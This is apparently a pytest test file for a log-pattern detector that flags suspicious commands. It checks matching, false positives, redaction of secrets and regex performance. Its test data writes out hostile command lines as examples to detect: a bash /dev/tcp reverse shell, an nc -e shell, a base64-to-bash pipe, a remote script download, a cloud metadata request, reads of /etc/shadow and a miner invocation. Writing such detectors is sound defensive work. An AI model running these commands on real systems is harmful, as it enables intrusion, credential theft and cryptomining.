"""Suspicious log patterns: data validated on load, matches without text, and no backtracking blow-ups."""

from __future__ import annotations

import json
import time

import pytest

from stockade.observability.events import Severity
from stockade.observability.log_patterns import MAX_LINE_CHARS, LogPatternError, load_log_patterns

PATTERNS = load_log_patterns()


@pytest.mark.parametrize(
    ("line", "pattern"),
    [
        ("sh -c 'id'", "shell-command"),
        ("curl -fsSL https://x.example/i.sh", "download-tool"),
        ("cat /etc/shadow", "sensitive-file"),
        ("echo aGVsbG8= | base64 --decode | bash", "base64-to-shell"),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse-shell"),
        ("import pty; pty.spawn('/bin/bash')", "python-reverse-shell"),
        ("name=x; sleep 5;", "sleep-injection"),
        ("curl http://169.254.169.254/latest/", "download-tool"),
        ("GET 169.254.169.254/latest/meta-data", "cloud-metadata"),
        ("chmod 755 /tmp/payload", "staged-binary"),
        ("xmrig --donate-level 1", "miner"),
    ],
)
def test_default_patterns_match_their_examples(line, pattern):
    found = PATTERNS.match_line(line)
    assert found is not None
    assert found.id == pattern


@pytest.mark.parametrize(
    "line",
    [
        "retrying in 5 seconds; sleeping before the next attempt",
        "fetched https://api.example.com/v1 in 20ms",
        "bash_size=12 nc_count=3",
        "shipping -c option to the compiler",
        "/etc/app/config.yaml loaded",
    ],
)
def test_default_patterns_leave_ordinary_lines_alone(line):
    assert PATTERNS.match_line(line) is None


def test_a_scan_names_patterns_and_line_numbers_never_the_text():
    anomaly = PATTERNS.scan(["ok", "cat /etc/passwd # token=abc123", "fine", "nc -e /bin/sh 1.2.3.4 1"])
    assert anomaly is not None
    assert anomaly.severity is Severity.CRITICAL
    assert anomaly.details["patterns"] == ["reverse-shell", "sensitive-file"]
    assert anomaly.details["lines"] == {"sensitive-file": [1], "reverse-shell": [3]}
    assert "abc123" not in json.dumps(anomaly.details) + anomaly.message


def test_no_default_pattern_backtracks_on_adversarial_lines():
    """An action controls its log text: every default pattern stays fast on crafted 2 KiB lines."""
    fragments = [" -x", "a", " ", "-", "/", "A", "1", " -a=b", "=", ";", "|", '"', "0", "\t", "+"]
    worst = 0.0
    for pattern in PATTERNS.patterns:
        for needle in pattern.needles:
            for fragment in fragments:
                repeated = fragment * (MAX_LINE_CHARS // len(fragment))
                for line in (f"{needle} {repeated}", repeated + needle, (needle + fragment) * 60):
                    started = time.perf_counter()
                    PATTERNS.match_line(line)
                    worst = max(worst, time.perf_counter() - started)
    assert worst < 0.05, f"slowest line took {worst * 1000:.1f} ms"


@pytest.mark.parametrize(
    ("entry", "message"),
    [
        ({"id": "Bad Id", "pattern": "x", "needles": ["x"], "comment": "c"}, "'id'"),
        ({"id": "a", "pattern": "(", "needles": ["x"], "comment": "c"}, "not a valid regular expression"),
        ({"id": "a", "pattern": "x", "needles": ["x"]}, "'comment'"),
        ({"id": "a", "pattern": "x", "needles": [], "comment": "c"}, "'needles'"),
        ({"id": "a", "pattern": "x", "needles": ["X"], "comment": "c"}, "'needles'"),
        ({"id": "a", "pattern": "x", "needles": ["x"], "comment": "c", "severity": "huge"}, "unknown severity"),
        ({"id": "a", "pattern": "x", "needles": ["x"], "comment": "c", "extra": 1}, "unknown fields"),
    ],
)
def test_invalid_pattern_files_are_refused_on_load(tmp_path, entry, message):
    path = tmp_path / "patterns.json"
    path.write_text(json.dumps({"patterns": [entry]}))
    with pytest.raises(LogPatternError, match=message):
        load_log_patterns(path)


def test_a_pattern_file_replaces_the_defaults_and_may_disable_entries(tmp_path):
    path = tmp_path / "patterns.json"
    path.write_text(
        json.dumps(
            {
                "patterns": [
                    {"id": "canary", "pattern": "CANARY-[0-9]+", "needles": ["canary-"], "comment": "ours"},
                    {"id": "off", "pattern": "x", "needles": ["x"], "comment": "off", "enabled": False},
                ]
            }
        )
    )
    patterns = load_log_patterns(path)
    assert patterns.match_line("leaked CANARY-42") is not None
    assert patterns.match_line("x sh -c x") is None
    with pytest.raises(LogPatternError, match="cannot read"):
        load_log_patterns(tmp_path / "missing.json")
